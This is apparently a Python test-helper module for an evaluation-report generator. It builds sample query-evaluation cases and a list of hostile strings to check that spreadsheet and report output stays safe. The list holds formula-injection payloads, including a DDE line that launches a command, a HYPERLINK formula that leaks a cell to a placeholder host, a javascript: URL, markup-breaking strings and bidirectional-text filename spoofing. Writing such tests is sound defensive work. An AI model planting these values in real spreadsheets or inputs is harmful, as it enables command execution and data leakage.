"""Reports for what spreadsheets open: cases with everything that is shown, and texts that are not to act."""

from report_maker import plain_report

CREATED = "2024-03-01T10:00:00+02:00"
FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=HYPERLINK("http://example.invalid/"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "＝1+1",  # noqa: RUF001 - in full width
    "'=1+1",
    "{=1+1}",
)
HOSTILE = (
    *FORMULAS,
    "http://example.invalid",
    "internal:Summary!A1",
    "external:a.xlsx",
    "mailto:a@example.invalid",
    "javascript:alert(1)",
    "<r><t>rich</t></r>",
    "<r></t></si><c><f>1+1</f></c></r>",
    "]]></t></is></c>",
    "&lt;b&gt; & <b>",
    "_x0041_ _x000D_ _xFFFF_",
    "a\x00b\x07\x1b[31mc\x7f\x85",
    "\u202egnp.exe\u2066 a\u200bb\ufeff",
    "\ud800 half \udfff",
    "\ufffe and \uffff",
    "a\r\nb\nc\td",
    "a;=1+1,\"b\" 'c'",
    "0012",
    "1e5",
    "NaN",
    "TRUE",
    "\N{FAMILY}" * 3,
)


def case(number=1, **changes):
    """A case as report.json has it."""
    defaults = {
        "id": f"c{number}",
        "nodeid": f"music/s.queryeval.yaml::c{number}",
        "path": "music/s.queryeval.yaml",
        "line": 4 * number,
        "kind": "sql",
        "tags": ["nightly", "joins"],
        "difficulty": "easy",
        "source": "concerts.db",
        "question": "How many?",
        "evidence": "",
        "outcome": "passed",
        "scores": {"execution_accuracy": 1.0, "soft_f1": 0.5},
        "violations": [],
        "gold": {"query": "SELECT 1\n", "columns": ["1"], "row_count": 1, "sample": [[1]], "seconds": 0.5, "index": 0},
        "predicted": {
            "query": "SELECT 2",
            "columns": ["2"],
            "row_count": 3,
            "sample": [],
            "seconds": 0.25,
            "error": None,
        },
        "scoring": None,
        "depends_on_tie": False,
        "difference": None,
        "cause": None,
        "prediction": {"source": "ours", "seconds": 2.0, "metadata": {}},
        "trials": [],
        "details": {},
        "message": "",
        "fingerprint": None,
    }
    return defaults | changes


def timed(seconds, **metadata):
    """The prediction of a case, which took so long and told so much."""
    return {"source": "ours", "seconds": seconds, "metadata": metadata}


def sdmx_case(number=1, **changes):
    scores = {"macro_precision": 0.75, "macro_recall": 0.5, "dataset_recall": 1.0}
    details = {"indicator_selection": "INDICATOR\n[recall: 0.50, precision: 0.75]\nTrue Positives [1]\n  * GDP: a"}
    return case(number, kind="sdmx", difficulty=None, scores=scores, details=details) | changes


def skipped(number=1, **changes):
    """A case of which nothing is known."""
    nothing = {"gold": None, "predicted": None, "prediction": None, "scores": {}}
    return case(number, outcome="skipped", message="not today", **nothing) | changes


def make_report(*cases, gates=(), **about):
    return plain_report(*cases, gates=gates, **{"created": CREATED, "predictor": {"sources": ["ours"]}} | about)


def hostile_report(texts=HOSTILE):
    """Each text wherever a model, a database or a suite can say something."""
    return make_report(*(hostile_case(number, text) for number, text in enumerate(texts, start=1)))


def hostile_case(number, text):
    base_case = case(number)
    said = dict.fromkeys(("id", "nodeid", "path", "difficulty", "source", "question", "message"), text)
    return (
        base_case
        | said
        | {
            "tags": [text],
            "gold": base_case["gold"] | {"query": text},
            "predicted": base_case["predicted"] | {"query": text, "error": {"kind": text, "message": text}},
            "prediction": {
                "source": text,
                "seconds": 1.0,
                "metadata": {"llm_time": text, "total_execution_time": text},
            },
            "scores": {"execution_accuracy": 1.0, f"custom{text}": 0.5},
        }
    )


def visible(text):
    """What is to be seen of a text, by a rule of its own: one character after the other."""
    return "".join(_shown(character) for character in text.replace("\r\n", "\n"))


def _shown(character):
    code = ord(character)
    hidden = (
        code < 32 or 127 <= code < 160 or 0xD800 <= code < 0xE000 or character in "\u200b\u202e\u2066\ufeff\ufffe\uffff"
    )
    if not hidden or character in "\t\n":
        return character
    return f"\\x{code:02x}" if code < 256 else f"\\u{code:04x}"
